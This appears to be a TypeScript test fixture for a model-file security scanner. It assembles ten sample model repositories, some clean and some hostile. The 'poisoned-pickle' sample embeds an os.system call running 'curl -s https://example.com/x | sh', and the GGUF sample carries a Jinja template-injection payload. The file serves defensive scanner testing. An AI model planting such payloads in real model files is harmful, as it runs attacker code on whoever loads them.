import { bytes } from "../support/scan/bytes.ts";
import { ggufWithTemplate } from "../support/scan/gguf.ts";
import { global, int, pickle, tensor, text, tuple } from "../support/scan/pickle.ts";
import { safetensors } from "../support/scan/safetensors.ts";
import { zip, type ZipPart } from "../support/scan/zip.ts";

const CARD = "---\nlicense: mit\n---\n\n# A model\n";
const CONFIG = {
  architectures: ["LlamaForCausalLM"],
  model_type: "llama",
  torch_dtype: "bfloat16",
  max_position_embeddings: 4096,
  hidden_size: 64,
  vocab_size: 512,
};
const SHARD = safetensors({ "model.embed_tokens.weight": { dtype: "BF16", shape: [512, 64], length: 65_536 } });
const OTHER = safetensors({ "lm_head.weight": { dtype: "BF16", shape: [512, 64], length: 65_536 } });
const SHARDS = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"] as const;
const STORAGE = new Uint8Array(24);

function json(value: unknown): string {
  return `${JSON.stringify(value, undefined, 2)}\n`;
}

function index(weights: Readonly<Record<string, string>>): string {
  return json({ metadata: { total_size: 131_072 }, weight_map: weights });
}

function torchArchive(data: Uint8Array, more: readonly ZipPart[] = []): Uint8Array {
  return zip([
    { name: "archive/data.pkl", data },
    ...more,
    { name: "archive/data/0", data: STORAGE },
    { name: "archive/version", data: "3\n" },
  ]);
}

const POISONED = bytes(
  [0x80, 2, "}"].map((part) => (typeof part === "string" ? part.charCodeAt(0) : part)),
  text("layer.weight"),
  tensor(),
  "s",
  global("os", "system"),
  tuple(text("curl -s https://example.com/x | sh")),
  "R0.",
);

const BASE = { "config.json": json(CONFIG), "README.md": CARD } as const;

/** Ten models that people meet, with what is typed for each. */
export const SHOWN_MODELS: Readonly<Record<string, Readonly<Record<string, Uint8Array | string>>>> = {
  "clean-safetensors": {
    ...BASE,
    [SHARDS[0]]: SHARD,
    [SHARDS[1]]: OTHER,
    "model.safetensors.index.json": index({ "model.embed_tokens.weight": SHARDS[0], "lm_head.weight": SHARDS[1] }),
  },
  "poisoned-pickle": { ...BASE, "pytorch_model.bin": torchArchive(POISONED) },
  torchscript: {
    "model.pt": torchArchive(pickle(2, global("__torch__", "Model"), ")", 0x81, "}b"), [
      { name: "archive/code/__torch__.py", data: "class Model(Module):\n  def forward(self, x):\n    return x\n" },
      { name: "archive/constants.pkl", data: pickle(2, ")") },
    ]),
  },
  "remote-code": {
    "README.md": CARD,
    "config.json": json({ ...CONFIG, auto_map: { AutoModelForCausalLM: "modeling_example.ExampleForCausalLM" } }),
    "modeling_example.py": "import torch\n\n\nclass ExampleForCausalLM(torch.nn.Module):\n    pass\n",
    "model.safetensors": SHARD,
  },
  "gguf-template": {
    "model.gguf": ggufWithTemplate("{{ messages[0].__class__.__mro__[1].__subclasses__() }}"),
  },
  "keras-lambda": {
    "model.keras": zip([
      { name: "metadata.json", data: json({ keras_version: "3.5.0", date_saved: "2026-01-01@00:00:00" }) },
      {
        name: "config.json",
        data: json({
          module: "keras",
          class_name: "Sequential",
          config: {
            name: "sequential",
            layers: [
              {
                module: "keras.layers",
                class_name: "Lambda",
                config: { name: "lambda", function: { class_name: "__lambda__", config: { code: "4wEAAAA=" } } },
              },
            ],
          },
          registered_name: "Sequential",
        }),
      },
    ]),
  },
  "corrupt-index": {
    ...BASE,
    [SHARDS[0]]: SHARD,
    "model.safetensors.index.json": index({ "model.embed_tokens.weight": SHARDS[0], "lm_head.weight": SHARDS[1] }),
  },
  "lfs-pointers": {
    ...BASE,
    "model.safetensors": `version https://git-lfs.github.com/spec/v1\noid sha256:${"4d".repeat(32)}\nsize 4976698672\n`,
    "tokenizer.json": `version https://git-lfs.github.com/spec/v1\noid sha256:${"5e".repeat(32)}\nsize 9085657\n`,
  },
  "sklearn-pipeline": {
    "model.pkl": pickle(
      3,
      global("sklearn.pipeline", "Pipeline"),
      ")",
      0x81,
      "}(",
      text("steps"),
      "](",
      tuple(
        text("forest"),
        bytes(global("sklearn.ensemble._forest", "RandomForestClassifier"), ")", [0x81], "}(", text("n_estimators"), int(100), "ub"),
      ),
      "eub",
    ),
  },
  "incomplete-download": {
    ...BASE,
    "model.safetensors": SHARD.subarray(0, 30_000),
    "model.safetensors.incomplete": SHARD.subarray(0, 100),
  },
};
